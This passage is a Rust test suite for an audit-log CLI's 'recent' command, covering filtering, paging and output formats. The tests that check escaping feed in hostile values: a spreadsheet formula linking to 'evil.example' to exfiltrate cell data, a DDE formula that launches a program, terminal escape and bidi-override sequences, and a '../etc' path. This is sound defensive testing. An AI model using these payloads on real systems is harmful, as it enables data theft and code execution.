//! `auditlog recent`: newest first, limits, day windows, users and formats.

use serde_json::Value;

use crate::support::{Cli, field};

fn tool(cli: &Cli, now: &str, user: &str, tool: &str) {
    cli.run_at(
        now,
        &[
            "tool", "--user", user, "--tool", tool, "--status", "ok", "--result", "done",
        ],
    )
    .success();
}

fn recent(cli: &Cli, now: &str, args: &[&str]) -> Vec<Value> {
    let mut all = vec!["recent"];
    all.extend_from_slice(args);
    let run = cli.run_at(now, &all).success();
    run.json().as_array().expect("a JSON array").clone()
}

const NOW: &str = "2025-10-23T18:00:00Z";

#[test]
fn one_users_entries_newest_first_across_days_with_a_limit() {
    let cli = Cli::new();
    tool(&cli, "2025-10-21T09:00:00Z", "alice", "t1");
    tool(&cli, "2025-10-22T09:00:00Z", "alice", "t2");
    tool(&cli, "2025-10-23T09:00:00Z", "alice", "t3");
    tool(&cli, "2025-10-23T10:00:00Z", "alice", "t4");
    tool(&cli, "2025-10-23T11:00:00Z", "bob", "other");
    let all = recent(&cli, NOW, &["--user", "alice"]);
    assert_eq!(field(&all, "tool"), ["t4", "t3", "t2", "t1"]);
    let two = recent(&cli, NOW, &["--user", "alice", "--limit", "2"]);
    assert_eq!(field(&two, "tool"), ["t4", "t3"]);
    assert!(recent(&cli, NOW, &["--user", "nobody"]).is_empty());
}

#[test]
fn the_day_window_counts_back_from_today() {
    let cli = Cli::new();
    tool(&cli, "2025-10-13T09:00:00Z", "alice", "ten_days_ago");
    tool(&cli, "2025-10-17T00:00:00Z", "alice", "six_days_ago");
    tool(&cli, "2025-10-23T09:00:00Z", "alice", "today");
    assert_eq!(
        field(&recent(&cli, NOW, &["--user", "alice"]), "tool"),
        ["today", "six_days_ago"]
    );
    assert_eq!(
        field(
            &recent(&cli, NOW, &["--user", "alice", "--days", "1"]),
            "tool"
        ),
        ["today"]
    );
    assert_eq!(
        recent(&cli, NOW, &["--user", "alice", "--days", "11"]).len(),
        3
    );
}

#[test]
fn all_users_are_merged_by_time() {
    let cli = Cli::new();
    tool(&cli, "2025-10-22T09:00:00Z", "alice", "a1");
    tool(&cli, "2025-10-22T10:00:00Z", "bob", "b1");
    tool(&cli, "2025-10-23T08:00:00Z", "carol", "c1");
    tool(&cli, "2025-10-23T09:00:00Z", "alice", "a2");
    let merged = recent(&cli, NOW, &["--all-users"]);
    assert_eq!(field(&merged, "tool"), ["a2", "c1", "b1", "a1"]);
    assert_eq!(field(&merged, "user"), ["alice", "carol", "bob", "alice"]);
    let newest = recent(&cli, NOW, &["--all-users", "--limit", "1"]);
    assert_eq!(field(&newest, "tool"), ["a2"]);
}

#[test]
fn skills_reads_the_skill_log_newest_first() {
    let cli = Cli::new();
    for (i, skill) in ["s.one", "s.two", "s.three"].iter().enumerate() {
        cli.run_at(
            &format!("2025-10-23T1{i}:00:00Z"),
            &["record", skill, "success", "10"],
        )
        .success();
    }
    tool(&cli, "2025-10-23T12:00:00Z", "alice", "not_a_skill");
    let entries = recent(&cli, NOW, &["--skills"]);
    assert_eq!(field(&entries, "skill"), ["s.three", "s.two", "s.one"]);
    assert_eq!(
        field(&recent(&cli, NOW, &["--skills", "--limit", "1"]), "skill"),
        ["s.three"]
    );
}

#[test]
fn formats() {
    let cli = Cli::new();
    let long_result = "a long result that will not fit in a terminal column ".repeat(4);
    for (i, user) in ["alice", "bob"].iter().enumerate() {
        cli.run_at(
            &format!("2025-10-23T1{i}:00:00Z"),
            &[
                "tool",
                "--user",
                user,
                "--tool",
                "a_rather_long_tool_name",
                "--status",
                "ok",
                "--result",
                &long_result,
            ],
        )
        .success();
    }
    let jsonl = cli
        .run_at(NOW, &["recent", "--all-users", "--format", "jsonl"])
        .success()
        .stdout;
    let lines: Vec<Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(field(&lines, "user"), ["bob", "alice"]);

    let table = cli
        .run_at(NOW, &["recent", "--all-users", "--format", "table"])
        .success()
        .stdout;
    let rows: Vec<&str> = table.lines().collect();
    assert_eq!(rows.len(), 3, "{table}");
    assert!(rows[0].starts_with("TS") && rows[0].contains("USER") && rows[0].contains("TOOL"));
    assert!(rows[1].contains("bob") && rows[2].contains("alice"));
    assert!(
        rows.iter().all(|r| r.chars().count() <= 80),
        "fits 80 columns:\n{table}"
    );

    let empty = cli.run_at(NOW, &["recent", "--user", "nobody"]).success();
    assert_eq!(empty.json(), Value::Array(vec![]));
}

#[test]
fn bad_queries_are_refused() {
    let cli = Cli::new();
    // A read refuses a log directory that does not exist before it checks the query.
    std::fs::create_dir_all(cli.dir()).unwrap();
    cli.run(&["recent"]).refused("--skills");
    cli.run(&["recent", "--skills", "--user", "alice"])
        .refused("--user");
    cli.run(&["recent", "--skills", "--limit", "0"])
        .refused("limit");
    cli.run(&["recent", "--skills", "--limit", "10001"])
        .refused("limit");
    cli.run(&["recent", "--skills", "--limit", "many"])
        .refused("--limit");
    cli.run(&["recent", "--skills", "--days", "0"])
        .refused("days");
    cli.run(&["recent", "--user", "../etc"]).refused("user");
    cli.run(&["recent", "--skills", "--format", "xml"])
        .refused("--format");
}

#[test]
fn bad_filters_are_refused() {
    let cli = Cli::new();
    // A read refuses a log directory that does not exist before it checks the query.
    std::fs::create_dir_all(cli.dir()).unwrap();
    cli.run(&["recent", "--skills", "--tool", "t"])
        .refused("tool");
    cli.run(&["recent", "--all-users", "--skill", "s"])
        .refused("skill");
    cli.run(&["recent", "--all-users", "--since", "last tuesday"])
        .refused("since");
    cli.run(&["recent", "--all-users", "--until", "2025-13-01"])
        .refused("until");
    cli.run(&[
        "recent",
        "--all-users",
        "--since",
        "2025-10-23",
        "--until",
        "2025-10-22",
    ])
    .refused("until");
    cli.run(&["recent", "--all-users", "--cursor", "nonsense"])
        .refused("cursor");
}

/// Tool calls on a known timeline; "now" is 2025-10-23T18:00:00Z.
fn timeline(cli: &Cli) {
    let calls = [
        ("2025-10-16T09:00:00Z", "alice", "read", "ok"),
        ("2025-10-21T09:00:00Z", "alice", "read", "ok"),
        ("2025-10-21T10:00:00Z", "bob", "write", "denied"),
        ("2025-10-22T09:00:00Z", "alice", "write", "error"),
        ("2025-10-22T11:00:00Z", "carol", "read", "ok"),
        ("2025-10-23T08:00:00Z", "bob", "read", "error"),
        ("2025-10-23T09:00:00Z", "alice", "read", "ok"),
    ];
    for (now, user, tool, status) in calls {
        cli.run_at(
            now,
            &["tool", "--user", user, "--tool", tool, "--status", status],
        )
        .success();
    }
}

/// "MM-DDTHH user tool status" for each entry.
fn stamps(entries: &[Value]) -> Vec<String> {
    entries
        .iter()
        .map(|e| {
            let ts = e["ts"].as_str().unwrap();
            format!(
                "{} {} {} {}",
                &ts[5..13],
                e["user"].as_str().unwrap(),
                e["tool"].as_str().unwrap(),
                e["status"].as_str().unwrap()
            )
        })
        .collect()
}

#[test]
fn filters_alone_and_combined_select_exactly_the_expected_entries() {
    let cli = Cli::new();
    timeline(&cli);
    let cases: &[(&[&str], &[&str])] = &[
        (
            &["--all-users"],
            &[
                "10-23T09 alice read ok",
                "10-23T08 bob read error",
                "10-22T11 carol read ok",
                "10-22T09 alice write error",
                "10-21T10 bob write denied",
                "10-21T09 alice read ok",
            ],
        ),
        (
            &["--all-users", "--tool", "read"],
            &[
                "10-23T09 alice read ok",
                "10-23T08 bob read error",
                "10-22T11 carol read ok",
                "10-21T09 alice read ok",
            ],
        ),
        (
            &["--all-users", "--status", "error"],
            &["10-23T08 bob read error", "10-22T09 alice write error"],
        ),
        (
            &[
                "--all-users",
                "--tool",
                "read",
                "--status",
                "ok",
                "--days",
                "2",
            ],
            &["10-23T09 alice read ok", "10-22T11 carol read ok"],
        ),
        (
            &["--user", "alice", "--since", "2025-10-01"],
            &[
                "10-23T09 alice read ok",
                "10-22T09 alice write error",
                "10-21T09 alice read ok",
                "10-16T09 alice read ok",
            ],
        ),
        (
            &[
                "--all-users",
                "--since",
                "2025-10-22",
                "--until",
                "2025-10-23",
            ],
            &["10-22T11 carol read ok", "10-22T09 alice write error"],
        ),
        (
            &[
                "--all-users",
                "--since",
                "2025-10-21T09:30:00Z",
                "--until",
                "2025-10-22T10:00:00+00:00",
            ],
            &["10-22T09 alice write error", "10-21T10 bob write denied"],
        ),
        (
            &["--user", "bob", "--tool", "write"],
            &["10-21T10 bob write denied"],
        ),
        (&["--user", "carol", "--status", "denied"], &[]),
    ];
    for (args, expected) in cases {
        let entries = recent(&cli, NOW, args);
        assert_eq!(stamps(&entries), *expected, "recent {args:?}");
    }
}

#[test]
fn a_cursor_pages_through_everything_once() {
    let cli = Cli::new();
    timeline(&cli);
    let mut seen = Vec::new();
    let mut cursor: Option<String> = None;
    for _ in 0..10 {
        let mut args = vec!["recent", "--all-users", "--limit", "2"];
        if let Some(c) = &cursor {
            args.extend(["--cursor", c.as_str()]);
        }
        let run = cli.run_at(NOW, &args).success();
        seen.extend(stamps(run.json().as_array().unwrap()));
        cursor = run
            .stderr
            .split("--cursor ")
            .nth(1)
            .map(|c| c.trim().to_owned());
        if cursor.is_none() {
            break;
        }
    }
    let all = stamps(&recent(&cli, NOW, &["--all-users"]));
    assert_eq!(seen, all);
    assert_eq!(seen.len(), 6);
}

#[test]
fn csv_parses_with_a_standard_reader() {
    let cli = Cli::new();
    let tricky = "line one\nline \"two\", with commas";
    cli.run_at(
        NOW,
        &[
            "tool",
            "--user",
            "alice",
            "--tool",
            "t",
            "--status",
            "ok",
            "--args",
            r#"{"q": "a,b"}"#,
            "--result",
            tricky,
        ],
    )
    .success();
    cli.run_at(NOW, &["record", "s.x", "failed", "7", r#"["x, y"]"#])
        .success();
    let csv_text = cli
        .run_at(NOW, &["recent", "--all-users", "--format", "csv"])
        .success()
        .stdout;
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        headers,
        [
            "ts",
            "user",
            "tool",
            "status",
            "result_chars",
            "result_snippet",
            "args",
            "other_fields"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1);
    // Newlines are escaped so that each entry is one line on a terminal.
    assert_eq!(&rows[0][5], "line one\\u{a}line \"two\", with commas");
    assert_eq!(csv_text.lines().count(), 2, "{csv_text}");
    assert_eq!(
        serde_json::from_str::<Value>(&rows[0][6]).unwrap()["q"],
        "a,b"
    );

    let skills = cli
        .run_at(NOW, &["recent", "--skills", "--format", "csv"])
        .success()
        .stdout;
    let mut reader = csv::Reader::from_reader(skills.as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    assert_eq!((&row[1], &row[2], &row[3]), ("s.x", "failed", "7"));
    assert_eq!(serde_json::from_str::<Value>(&row[4]).unwrap()[0], "x, y");
    assert_eq!(&row[6], "", "a run's fields all have columns");
}

#[test]
fn csv_opened_in_a_spreadsheet_runs_no_formula_a_caller_wrote() {
    // A tool name, a result and a foreign entry's field, each a formula a
    // spreadsheet would run: one fetches a URL with the sheet's data, one
    // starts a program.
    let cli = Cli::new();
    let exfiltrate = r#"=HYPERLINK("https://evil.example/?"&A1,"open")"#;
    cli.run_at(
        NOW,
        &[
            "tool",
            "--user",
            "alice",
            "--tool",
            "=cmd|'calc'!A0",
            "--status",
            "ok",
            "--result",
            exfiltrate,
        ],
    )
    .success();
    cli.run_at(
        NOW,
        &[
            "tool", "--user", "alice", "--tool", "@SUM(1)", "--status", "denied", "--result",
            "+1-2",
        ],
    )
    .success();
    let csv_text = cli
        .run_at(NOW, &["recent", "--user", "alice", "--format", "csv"])
        .success()
        .stdout;
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2, "{csv_text}");
    assert_eq!((&rows[0][2], &rows[0][5]), ("'@SUM(1)", "'+1-2"));
    assert_eq!(&rows[1][2], "'=cmd|'calc'!A0");
    assert_eq!(rows[1][5], format!("'{exfiltrate}"));
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "{cell:?} in {csv_text}"
            );
        }
    }
    // The number columns and JSON are as they were; json keeps the text exactly.
    assert_eq!(
        (&rows[1][4], &rows[1][6]),
        (exfiltrate.chars().count().to_string().as_str(), "{}")
    );
    let json = cli
        .run_at(NOW, &["recent", "--user", "alice"])
        .success()
        .json();
    assert_eq!(json[1]["result_snippet"], exfiltrate);
}

/// What a terminal acts on: C0 controls (ESC, BEL, BS, CR), DEL, C1 controls
/// (CSI), and the direction overrides and isolates that reverse a line.
const TERMINAL_ATTACKS: [(&str, &str); 9] = [
    ("\u{1b}[2J", "\\u{1b}[2J"),
    ("\u{1b}]0;pwned\u{7}", "\\u{1b}]0;pwned\\u{7}"),
    ("\u{7}", "\\u{7}"),
    ("ok\u{8}\u{8}", "ok\\u{8}\\u{8}"),
    ("denied\rok", "denied\\u{d}ok"),
    ("\u{7f}", "\\u{7f}"),
    ("\u{9b}31m", "\\u{9b}31m"),
    ("\u{202e}txt.exe", "\\u{202e}txt.exe"),
    ("\u{2066}x\u{2069}", "\\u{2066}x\\u{2069}"),
];

/// The raw characters of [`TERMINAL_ATTACKS`] that appear in `out`.
fn raw_controls(out: &str) -> Vec<char> {
    out.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n') || matches!(c, '\u{202e}' | '\u{2066}' | '\u{2069}')
        })
        .collect()
}

#[test]
fn table_and_csv_show_terminal_controls_escaped_and_json_keeps_them_exactly() {
    let cli = Cli::new();
    let attack: String = TERMINAL_ATTACKS.iter().map(|(raw, _)| *raw).collect();
    let shown: String = TERMINAL_ATTACKS
        .iter()
        .map(|(_, escaped)| *escaped)
        .collect();
    let args = serde_json::json!({ "cmd": attack }).to_string();
    cli.run_at(
        NOW,
        &[
            "tool",
            "--user",
            "alice",
            "--tool",
            "shell",
            "--status",
            "ok",
            "--args",
            &args,
            "--result",
            &attack,
            "--snippet-chars",
            "1000",
        ],
    )
    .success();
    let metadata = serde_json::json!({ "note": attack }).to_string();
    let errors = serde_json::json!([attack]).to_string();
    cli.run_at(NOW, &["record", "s.x", "failed", "7", &errors, &metadata])
        .success();

    for log in [&["--all-users"][..], &["--skills"][..]] {
        for format in ["table", "csv"] {
            let mut args = vec!["recent"];
            args.extend_from_slice(log);
            args.extend_from_slice(&["--format", format]);
            let out = cli.run_at(NOW, &args).success().stdout;
            assert_eq!(
                raw_controls(&out),
                Vec::<char>::new(),
                "{log:?} {format}: {out:?}"
            );
        }
    }
    let table = cli
        .run_at(NOW, &["recent", "--all-users", "--format", "table"])
        .success()
        .stdout;
    assert!(table.contains("\\u{1b}[2J"), "{table}");
    let csv_text = cli
        .run_at(NOW, &["recent", "--all-users", "--format", "csv"])
        .success()
        .stdout;
    let row = csv::Reader::from_reader(csv_text.as_bytes())
        .records()
        .next()
        .unwrap()
        .unwrap();
    assert_eq!(&row[5], shown, "the result, escaped");
    assert!(row[6].contains("\\u{9b}31m\\u{202e}txt.exe"), "{}", &row[6]);

    // The machine formats keep the exact values: JSON escapes C0 controls
    // itself and leaves C1 and bidi characters for the reader to handle.
    let json = cli
        .run_at(NOW, &["recent", "--all-users", "--format", "json"])
        .success()
        .json();
    assert_eq!(json[0]["result_snippet"], attack.as_str());
    assert_eq!(json[0]["args"]["cmd"], attack.as_str());
    let skills = cli
        .run_at(NOW, &["recent", "--skills", "--format", "jsonl"])
        .success()
        .stdout;
    let entry: Value = serde_json::from_str(skills.trim_end()).unwrap();
    assert_eq!(entry["metadata"]["note"], attack.as_str());
    assert_eq!(entry["errors"][0], attack.as_str());
}

/// A skill log as the seed's `audit_log.py` writes it (`json.dump(indent=2)`,
/// no index, no chain): `count` runs `s0`, `s1`, … an hour apart from
/// 2025-05-01, months before [`NOW`], in the timestamp shapes older writers
/// left — `+00:00` with microseconds, `Z` with milliseconds, `+00:00` with
/// none — in turn.
pub(crate) fn legacy_skill_log(cli: &Cli, count: usize) {
    let entries: Vec<String> = (0..count)
        .map(|i| {
            let (day, hour) = (1 + i / 24, i % 24);
            let stamp = match i % 3 {
                0 => format!("2025-05-{day:02}T{hour:02}:00:00.{i:06}+00:00"),
                1 => format!("2025-05-{day:02}T{hour:02}:00:00.{:03}Z", i % 1000),
                _ => format!("2025-05-{day:02}T{hour:02}:00:00+00:00"),
            };
            format!(
                "  {{\n    \"timestamp\": \"{stamp}\",\n    \"skill\": \"s{i}\",\n    \"status\": \"{}\",\n    \"duration_ms\": 10\n  }}",
                if i % 2 == 0 { "success" } else { "failed" }
            )
        })
        .collect();
    let text = format!("[\n{}\n]", entries.join(",\n"));
    std::fs::create_dir_all(cli.dir()).unwrap();
    std::fs::write(cli.dir().join("audit_log.json"), text).unwrap();
}

#[test]
fn the_skill_log_has_no_default_window_but_tool_logs_keep_seven_days() {
    let cli = Cli::new();
    // In time order: a clock behind the log would be clamped to its last entry.
    for (now, skill) in [
        ("2025-03-01T09:00:00Z", "march"),
        ("2025-06-15T09:00:00Z", "june"),
        ("2025-08-31T23:59:59Z", "august"),
    ] {
        cli.run_at(now, &["record", skill, "success"]).success();
    }
    tool(&cli, "2025-08-31T09:00:00Z", "alice", "months_ago");
    tool(&cli, "2025-10-23T09:00:00Z", "alice", "today");
    let skills = recent(&cli, NOW, &["--skills"]);
    assert_eq!(field(&skills, "skill"), ["august", "june", "march"]);
    assert!(recent(&cli, NOW, &["--skills", "--days", "7"]).is_empty());
    assert_eq!(
        field(
            &recent(&cli, NOW, &["--skills", "--since", "2025-06-01"]),
            "skill"
        ),
        ["august", "june"]
    );
    assert_eq!(
        field(&recent(&cli, NOW, &["--skills", "--days", "60"]), "skill"),
        ["august"]
    );
    assert_eq!(
        field(&recent(&cli, NOW, &["--user", "alice"]), "tool"),
        ["today"],
        "a tool log's default window is still 7 days"
    );
}

#[test]
fn a_months_old_seed_log_reads_newest_first_in_pages_of_200() {
    let cli = Cli::new();
    legacy_skill_log(&cli, 205);
    let run = cli.run_at(NOW, &["recent", "--skills"]).success();
    let first = run.json().as_array().unwrap().clone();
    let newest: Vec<String> = (5..205).rev().map(|i| format!("s{i}")).collect();
    assert_eq!(field(&first, "skill"), newest);
    let cursor = run
        .stderr
        .split_whitespace()
        .skip_while(|w| *w != "--cursor")
        .nth(1)
        .unwrap_or_else(|| panic!("a next-page hint on stderr: {:?}", run.stderr));
    let rest = recent(&cli, NOW, &["--skills", "--cursor", cursor]);
    assert_eq!(field(&rest, "skill"), ["s4", "s3", "s2", "s1", "s0"]);
    assert!(recent(&cli, NOW, &["--skills", "--days", "7"]).is_empty());
}

#[test]
fn legacy_timestamp_shapes_sort_and_filter_exactly() {
    let cli = Cli::new();
    legacy_skill_log(&cli, 30);
    // s24 is 2025-05-02T00:00:00.000024+00:00: microseconds count.
    let since = |at: &str| {
        let entries = recent(&cli, NOW, &["--skills", "--since", at]);
        field(&entries, "skill")
    };
    assert_eq!(since("2025-05-02T00:00:00.000024Z").last().unwrap(), "s24");
    assert_eq!(since("2025-05-02T00:00:00.000025Z").last().unwrap(), "s25");
    // s25 is `…01:00:00.025Z`, s26 `…02:00:00+00:00`, s27 `…03:00:00.000027+00:00`.
    let window = recent(
        &cli,
        NOW,
        &[
            "--skills",
            "--since",
            "2025-05-02T01:00:00.025+00:00",
            "--until",
            "2025-05-02T03:00:00.000027Z",
        ],
    );
    assert_eq!(field(&window, "skill"), ["s26", "s25"]);
    let failed = recent(
        &cli,
        NOW,
        &["--skills", "--status", "failed", "--limit", "3"],
    );
    assert_eq!(field(&failed, "skill"), ["s29", "s27", "s25"]);
}

/// A Betty-shaped `audit_log.json` as the seed script leaves it
/// (`json.dump(indent=2)`, mixed timestamp styles): 74 skill runs on
/// 2025-10-20 a minute apart, 20 of them failed, and among them 6 entries another tool wrote in another schema — `audit_id`,
/// `agent`, `action`, `target`, `details`, no `skill`; the last has a
/// `status` but still no `skill`. Returns the foreign entries, oldest first.
pub(crate) fn betty_log_with_foreign_entries(cli: &Cli) -> Vec<Value> {
    let mut entries = Vec::new();
    let mut foreign = Vec::new();
    for i in 0..74u32 {
        let (hour, minute) = (8 + i / 60, i % 60);
        let timestamp = match i % 3 {
            0 => format!("2025-10-20T{hour:02}:{minute:02}:00.{i:06}+00:00"),
            1 => format!("2025-10-20T{hour:02}:{minute:02}:00.{i:03}Z"),
            _ => format!("2025-10-20T{hour:02}:{minute:02}:00+00:00"),
        };
        let failed = i % 4 == 1 || i == 0;
        entries.push(serde_json::json!({
            "timestamp": timestamp,
            "skill": format!("api.s{}", i % 5),
            "status": if failed { "failed" } else { "success" },
            "duration_ms": 100 + i,
        }));
        if i % 12 == 5 {
            let n = foreign.len();
            let mut entry = serde_json::json!({
                "timestamp": format!("2025-10-20T{hour:02}:{minute:02}:30.123456+00:00"),
                "audit_id": format!("a-{n}"),
                "agent": "registry",
                "action": "skill.register",
                "target": format!("api.validate{n}"),
                "details": {"version": n, "ok": true, "tags": ["x", "y"], "ratio": 0.5},
            });
            if n == 5 {
                entry["status"] = "registered".into();
            }
            entries.push(entry.clone());
            foreign.push(entry);
        }
    }
    let text = serde_json::to_string_pretty(&entries).unwrap();
    std::fs::create_dir_all(cli.dir()).unwrap();
    std::fs::write(cli.dir().join("audit_log.json"), text).unwrap();
    foreign
}

/// `value` as compact JSON in its own key order: equal texts mean the same
/// fields, values and order.
fn compact(value: &Value) -> String {
    serde_json::to_string(value).unwrap()
}

/// Whether `entry` is of another schema than a skill run.
fn is_foreign(entry: &Value) -> bool {
    entry.get("skill").is_none() || entry.get("status").is_none()
}

#[test]
fn foreign_entries_come_back_as_stored_and_match_no_name_or_status() {
    let cli = Cli::new();
    let foreign = betty_log_with_foreign_entries(&cli);
    let all = recent(&cli, NOW, &["--skills"]);
    assert_eq!(all.len(), 80);
    let returned: Vec<String> = all.iter().filter(|e| is_foreign(e)).map(compact).collect();
    let written: Vec<String> = foreign.iter().rev().map(compact).collect();
    assert_eq!(returned, written, "every field, in meaning and key order");
    // A filter on a name or a status never selects an entry that has neither.
    let failed = recent(&cli, NOW, &["--skills", "--status", "failed"]);
    assert_eq!(failed.len(), 20);
    assert!(!failed.iter().any(is_foreign));
    let registered = recent(&cli, NOW, &["--skills", "--status", "registered"]);
    assert!(registered.is_empty(), "{registered:?}");
    let one_skill = recent(&cli, NOW, &["--skills", "--skill", "api.s0"]);
    assert_eq!(one_skill.len(), 15);
    assert!(!one_skill.iter().any(is_foreign));
}

#[test]
fn the_table_and_csv_show_what_a_foreign_entry_holds() {
    let cli = Cli::new();
    let foreign = betty_log_with_foreign_entries(&cli);
    // A sealed run after them: its seal is no field a reader needs to see.
    cli.run_at(NOW, &["record", "api.new", "success", "5"])
        .success();

    let table = cli
        .run_at(NOW, &["recent", "--skills", "--format", "table"])
        .success()
        .stdout;
    let row = table
        .lines()
        .find(|l| l.contains("a-5"))
        .unwrap_or_else(|| panic!("a row for audit_id a-5:\n{table}"));
    assert!(
        row.starts_with("2025-10-20T") && row.contains("audit_id=a-5 agent"),
        "its first fields, past its time, in the name column:\n{table}"
    );
    let cells: Vec<&str> = row.split_whitespace().collect();
    assert_eq!(cells.last(), Some(&"-"), "no status: {row}");
    assert!(
        !row.contains("registered"),
        "the status column is not its: {row}"
    );
    assert!(table.lines().all(|l| l.chars().count() <= 80), "{table}");

    let text = cli
        .run_at(NOW, &["recent", "--skills", "--format", "csv"])
        .success()
        .stdout;
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        headers,
        [
            "timestamp",
            "skill",
            "status",
            "duration_ms",
            "errors",
            "metadata",
            "other_fields"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 81);
    assert_eq!(
        (&rows[0][1], &rows[0][6]),
        ("api.new", ""),
        "no seal, nothing else"
    );
    let others: Vec<Value> = rows
        .iter()
        .filter(|r| !r[6].is_empty())
        .map(|r| serde_json::from_str(&r[6]).unwrap())
        .collect();
    let expected: Vec<String> = foreign
        .iter()
        .rev()
        .map(|entry| {
            let mut rest = entry.as_object().unwrap().clone();
            rest.shift_remove("timestamp");
            rest.shift_remove("status");
            compact(&Value::Object(rest))
        })
        .collect();
    assert_eq!(others.iter().map(compact).collect::<Vec<_>>(), expected);
    let registered = rows.iter().find(|r| r[6].contains("a-5")).unwrap();
    assert_eq!((&registered[1], &registered[2]), ("", "registered"));
}

#[test]
fn a_foreign_entry_cannot_drive_the_terminal_through_the_table_or_csv() {
    let cli = Cli::new();
    tool(&cli, "2025-10-23T09:00:00Z", "alice", "read");
    let file = cli.dir().join("alice/tool_audit/2025-10-23.jsonl");
    let mut text = std::fs::read_to_string(&file).unwrap();
    // Another tool's line, with a key and values that would clear the
    // screen, ring the bell and reverse the line if shown raw.
    let attack = serde_json::json!({
        "ts": "2025-10-23T10:00:00Z",
        "user": "alice",
        "event": "login\u{1b}[2J\u{7}",
        "from\u{202e}txt.exe": {"ip": "10.0.0.1\u{9b}31m"},
    });
    text.push_str(&format!("{attack}\n"));
    std::fs::write(&file, text).unwrap();

    let table = cli
        .run_at(NOW, &["recent", "--user", "alice", "--format", "table"])
        .success()
        .stdout;
    assert_eq!(raw_controls(&table), Vec::<char>::new(), "{table}");
    let row = table.lines().nth(1).unwrap();
    assert!(row.contains("event=login\\u"), "{table}");

    let csv_text = cli
        .run_at(NOW, &["recent", "--user", "alice", "--format", "csv"])
        .success()
        .stdout;
    assert_eq!(raw_controls(&csv_text), Vec::<char>::new(), "{csv_text}");
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!((&rows[0][1], &rows[0][2], &rows[0][3]), ("alice", "", ""));
    assert_eq!(
        &rows[0][7],
        r#"{"event":"login\u001b[2J\u0007","from\u{202e}txt.exe":{"ip":"10.0.0.1\u{9b}31m"}}"#
    );
    assert_eq!(&rows[1][7], "", "a tool call's fields all have columns");
}

#[test]
fn a_page_of_large_entries_is_cut_short_with_a_cursor_rather_than_failing() {
    // 140 entries of 1 MiB that another writer stored: asked for at once,
    // they are more than the host copies out of the component in one call
    // (this once failed: "fuel allocated for hostcalls has been exhausted").
    let cli = Cli::new();
    let pad = "x".repeat(1 << 20);
    let lines: String = (0..140)
        .map(|i| {
            format!(
                "{{\"ts\":\"2025-10-23T09:{:02}:{:02}Z\",\"user\":\"alice\",\"tool\":\"t{i}\",\"args\":{{\"pad\":\"{pad}\"}},\"status\":\"ok\"}}\n",
                i / 60,
                i % 60
            )
        })
        .collect();
    let day = cli.dir().join("alice/tool_audit/2025-10-23.jsonl");
    std::fs::create_dir_all(day.parent().unwrap()).unwrap();
    std::fs::write(&day, lines).unwrap();
    let mut cursor: Option<String> = None;
    let mut seen = Vec::new();
    let mut pages = 0;
    loop {
        let mut args = vec!["recent", "--user", "alice", "--limit", "10000"];
        if let Some(cursor) = &cursor {
            args.extend(["--cursor", cursor]);
        }
        let run = cli.run_at(NOW, &args).success();
        pages += 1;
        seen.extend(field(run.json().as_array().unwrap(), "tool"));
        match run.stderr.split("--cursor ").nth(1) {
            Some(next) => cursor = Some(next.trim().to_owned()),
            None => break,
        }
    }
    assert!(pages > 1, "the answer came in pages");
    let all: Vec<Value> = (0..140).rev().map(|i| format!("t{i}").into()).collect();
    assert_eq!(seen, all, "every entry once, newest first");
}

/// An integer too large for 64 bits and a decimal that is not the double
/// nearest it, as older writers stored them: no `auditlog` writer accepts
/// them, but a legacy log may hold them, and `recent` reads legacy logs.
const HUGE: &str = "123456789012345678901234567890";
const NEAR: &str = "0.30000000000000001";

/// CSV "drops no field" and writes numbers "as they are": a number is written
/// with the text it is stored with, top-level or nested, never read through a
/// double (which made `1.2345678901234568e+29` of `HUGE` and `0.3` of `NEAR`),
/// as `json` and `jsonl` return them; the table shows them the same way.
#[test]
fn csv_and_the_table_write_numbers_exactly_as_stored() {
    let cli = Cli::new();
    // A seed-written skill log (`json.dump(indent=2)`): a run, then an entry
    // of another schema whose one field is a number.
    let skill_log = format!(
        "[\n  {{\n    \"timestamp\": \"2025-10-23T09:00:00+00:00\",\n    \"skill\": \"s.big\",\n    \
         \"status\": \"success\",\n    \"duration_ms\": {HUGE},\n    \"metadata\": {{\n      \
         \"ratio\": {NEAR},\n      \"ids\": [{HUGE}, 1E5, -0]\n    }},\n    \"weight\": {NEAR}\n  }},\n  \
         {{\n    \"timestamp\": \"2025-10-23T10:00:00+00:00\",\n    \"n\": {NEAR}\n  }}\n]"
    );
    std::fs::create_dir_all(cli.dir().join("alice/tool_audit")).unwrap();
    std::fs::write(cli.dir().join("audit_log.json"), skill_log).unwrap();
    // A seed-written tool line.
    std::fs::write(
        cli.dir().join("alice/tool_audit/2025-10-23.jsonl"),
        format!(
            "{{\"ts\": \"2025-10-23T09:00:00Z\", \"user\": \"alice\", \"tool\": \"t\", \
             \"status\": \"ok\", \"result_chars\": {HUGE}, \"result_snippet\": \"r\", \
             \"args\": {{\"x\": {NEAR}, \"n\": {HUGE}}}, \"cost\": {NEAR}}}\n"
        ),
    )
    .unwrap();

    let skills = cli
        .run_at(NOW, &["recent", "--skills", "--format", "csv"])
        .success()
        .stdout;
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(skills.as_bytes())
        .records()
        .map(Result::unwrap)
        .collect();
    assert_eq!(rows.len(), 2, "{skills}");
    let run = &rows[1];
    assert_eq!(&run[3], HUGE, "duration_ms: {skills}");
    assert_eq!(
        &run[5],
        format!(r#"{{"ratio":{NEAR},"ids":[{HUGE},1E5,-0]}}"#),
